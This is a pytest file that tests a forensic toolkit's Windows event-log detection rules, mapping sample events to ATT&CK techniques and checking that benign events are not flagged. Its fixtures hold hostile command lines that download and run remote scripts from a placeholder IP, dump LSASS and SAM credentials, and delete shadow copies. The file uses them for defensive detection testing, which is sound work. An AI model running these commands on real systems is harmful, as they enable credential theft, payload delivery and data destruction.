"""Windows event logs: the shipped rules, each theme by an event of its kind, and guessed passwords."""

from __future__ import annotations

import json
from typing import Any

import pytest

from forensic_toolkit.rules import windows_sources
from tests.toolkit.examined import NO_TOOLS, TOOLS, run

SYSMON, SECURITY = windows_sources.SYSMON, windows_sources.SECURITY
_RULES = """
import json, sys
from forensic_toolkit.results import Results
from forensic_toolkit.rules import sigma_engine, windows_events
from forensic_toolkit.times import now
results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
rules = windows_events.shipped(results)
found = []
for number, event in enumerate(json.loads(sys.argv[1])):
    table = sigma_engine.Table(rules.rules, keys=windows_events.KEYS)
    table.fill([windows_events.prepared({"ts": "2026-11-21T02:00:00+00:00", **event})])
    said = windows_events.examined(rules, table, results=results)
    found.append([[item.technique, item.severity] for item in said])
    table.close()
places = [windows_events.within(rule) for rule in rules.rules]
print(json.dumps({"found": found, "refused": rules.refused, "gaps": results.gaps, "nowhere": places.count(None),
                  "ids": [rule.id for rule in rules.rules], "techniques": [rule.technique for rule in rules.rules]}))
"""


def sysmon(number: int, **fields: Any) -> dict[str, Any]:
    """An event of Sysmon."""
    return {"Channel": SYSMON, "EventID": number, **fields}


def started(image: str, command: str, parent: str = "C:\\Windows\\explorer.exe", **more: Any) -> dict[str, Any]:
    """A started program, as Sysmon tells it."""
    return sysmon(1, Image=image, CommandLine=command, ParentImage=parent, **more)


SYS = "C:\\Windows\\System32\\"
EVENTS: list[tuple[str, dict[str, Any]]] = [
    ("T1685.005", {"Channel": SECURITY, "EventID": 1102}),
    ("T1685.005", started(SYS + "wevtutil.exe", "wevtutil cl Application")),
    (
        "T1003.001",
        sysmon(10, SourceImage="C:\\Users\\a\\x.exe", TargetImage=SYS + "lsass.exe", GrantedAccess="0x1fffff"),
    ),
    ("T1003.001", started(SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 c:\\d.bin full")),
    ("T1003.002", started(SYS + "reg.exe", "reg save hklm\\sam c:\\s.hiv")),
    ("T1003.003", started(SYS + "ntdsutil.exe", 'ntdsutil "ac i ntds" ifm')),
    (
        "T1003.006",
        {
            "Channel": SECURITY,
            "EventID": 4662,
            "SubjectUserName": "eve",
            "Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        },
    ),
    (
        "T1558.003",
        {
            "Channel": SECURITY,
            "EventID": 4769,
            "TicketEncryptionType": "0x17",
            "Status": "0x0",
            "ServiceName": "sql",
        },
    ),
    ("T1569.002", sysmon(17, PipeName="\\PSEXESVC-HOST-12-stdin", Image="System")),
    (
        "T1047",
        started(SYS + "cmd.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", SYS + "wbem\\WmiPrvSE.exe"),
    ),
    ("T1021.006", started(SYS + "cmd.exe", "cmd /c dir", SYS + "winrshost.exe")),
    ("T1546.003", sysmon(20, Destination='"powershell -enc AAAA"', Name="updater", Type="Command Line")),
    ("T1548.002", started(SYS + "cmd.exe", "cmd.exe", SYS + "fodhelper.exe")),
    (
        "T1548.002",
        sysmon(
            13,
            EventType="SetValue",
            TargetObject="HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
        ),
    ),
    ("T1218.010", started(SYS + "regsvr32.exe", "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll")),
    ("T1218.011", started(SYS + "rundll32.exe", "rundll32.exe javascript:..mshtml,RunHTMLApplication")),
    ("T1218.005", started(SYS + "mshta.exe", "mshta http://198.51.100.7/a.hta")),
    ("T1105", started(SYS + "certutil.exe", "certutil -urlcache -f http://198.51.100.7/a a.exe")),
    ("T1197", started(SYS + "bitsadmin.exe", "bitsadmin /transfer j http://198.51.100.7/a c:\\a.exe")),
    ("T1505.003", started(SYS + "cmd.exe", "cmd /c whoami", SYS + "inetsrv\\w3wp.exe")),
    ("T1543.003", {"Channel": "System", "EventID": 7045, "ServiceName": "x", "ImagePath": "C:\\ProgramData\\x.exe"}),
    (
        "T1053.005",
        {"Channel": SECURITY, "EventID": 4698, "TaskName": "\\U", "TaskContent": "<Command>mshta</Command> http://x"},
    ),
    ("T1059.001", started(SYS + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -w hidden -enc SQBFAFgA")),
    ("T1685", {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": 5001, "message": "5001"}),
    ("T1136.001", {"Channel": SECURITY, "EventID": 4720, "TargetUserName": "helper"}),
    ("T1098", {"Channel": SECURITY, "EventID": 4732, "TargetUserName": "Administrators", "SubjectUserName": "eve"}),
    # Numbers may be text, as in rendered and forwarded logs.
    ("T1550.002", {"Channel": SECURITY, "EventID": 4624, "LogonType": "9", "LogonProcessName": "seclogo"}),
    ("T1071.001", sysmon(3, Image=SYS + "mshta.exe", DestinationPort="8080", DestinationIp="198.51.100.7")),
    # The Security log's own event of a started program has other names for the same fields.
    (
        "T1490",
        {
            "Channel": SECURITY,
            "EventID": 4688,
            "NewProcessName": SYS + "vssadmin.exe",
            "CommandLine": "vssadmin delete shadows /all",
        },
    ),
]
ORDINARY = [
    {"Channel": "System", "EventID": 7036, "param1": "Windows Update", "param2": "running"},
    {"Channel": "System", "EventID": 10016, "param1": "application-specific"},
    {"Channel": SECURITY, "EventID": 4624, "LogonType": 5, "TargetUserName": "SYSTEM", "IpAddress": "-"},
    {
        "Channel": SECURITY,
        "EventID": 4732,
        "TargetSid": "S-1-5-32-544",
        "SubjectUserName": "WIN-1$",
        "TargetUserName": "Administrators",
    },
    {
        "Channel": SECURITY,
        "EventID": 4688,
        "NewProcessName": SYS + "svchost.exe",
        "ParentProcessName": SYS + "services.exe",
    },
    {"Channel": SECURITY, "EventID": 1100},
    started(
        SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -NoProfile -ExecutionPolicy Bypass C:\\ProgramData\\Amazon\\SSM\\a.ps1",
        "C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe",
    ),
    started(SYS + "WerFault.exe", "WerFault -u", SYS + "svchost.exe"),
    started(SYS + "certutil.exe", "certutil -verify server.cer"),
    started(SYS + "net.exe", "net use Z: \\\\files\\team /persistent:yes"),
    started(SYS + "Robocopy.exe", "robocopy D:\\data \\\\backup\\data /mir"),
    started(SYS + "OpenSSH\\ssh.exe", "ssh admin@10.0.0.5"),
    started(SYS + "curl.exe", "curl https://example.org/health"),
    started(SYS + "findstr.exe", "findstr /i error C:\\logs\\app.log"),
    started(SYS + "shutdown.exe", "shutdown /r /t 60 /c updates"),
    started(SYS + "bcdedit.exe", "bcdedit /enum"),
    started(SYS + "icacls.exe", "icacls C:\\site /grant IIS_IUSRS:(RX)"),
    {
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "EventID": 4104,
        "ScriptBlockText": "Invoke-WebRequest https://x.example/status",
    },
    {
        "Channel": SECURITY,
        "EventID": 4624,
        "LogonType": "10",
        "TargetUserName": "Administrator",
        "IpAddress": "10.0.0.9",
    },
    sysmon(3, Image=SYS + "svchost.exe", DestinationPort=443, DestinationIp="192.0.2.5"),
    sysmon(15, Image="C:\\Windows\\explorer.exe", TargetFilename="C:\\Users\\a\\Downloads\\x.zip:Zone.Identifier"),
    sysmon(
        13,
        EventType="SetValue",
        TargetObject="HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL",
        Details="DWORD (0x00000001)",
    ),
]


@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
def test_the_shipped_rules_name_the_technique_and_leave_ordinary_events_alone() -> None:
    answer = json.loads(run(_RULES, json.dumps([event for _, event in EVENTS] + ORDINARY)))
    assert answer["refused"] == [] and answer["gaps"] == [] and answer["nowhere"] == 0
    assert len(set(answer["ids"])) == len(answer["ids"]) >= 360
    assert all(answer["techniques"])
    named = answer["found"][: len(EVENTS)]
    missed = [
        (wanted, event)
        for (wanted, event), said in zip(EVENTS, named, strict=True)
        if wanted not in {technique for technique, _ in said}
    ]
    assert missed == []
    grave = [
        (event, said)
        for event, said in zip(ORDINARY, answer["found"][len(EVENTS) :], strict=True)
        if {"critical", "high", "medium"} & {severity for _, severity in said}
    ]
    assert grave == []


def test_every_category_of_sigma_that_a_log_holds_is_mapped() -> None:
    """The categories and services for Windows of Sigma's taxonomy (sigma-specification, appendix taxonomy)."""
    wanted = (
        "process_creation registry_set registry_add registry_delete registry_event image_load driver_load network_connection "
        "pipe_created dns_query file_event file_delete file_change create_remote_thread process_access raw_access_thread "
        "wmi_event ps_script ps_module ps_classic_start create_stream_hash process_tampering antivirus"
    )
    assert [name for name in wanted.split() if windows_sources.condition(name, "") is None] == []
    assert windows_sources.condition("file_access", "") is None and "file_access" in windows_sources.NOT_LOGGED
    assert windows_sources.condition("", "security") == "(Channel IN ('Security'))"
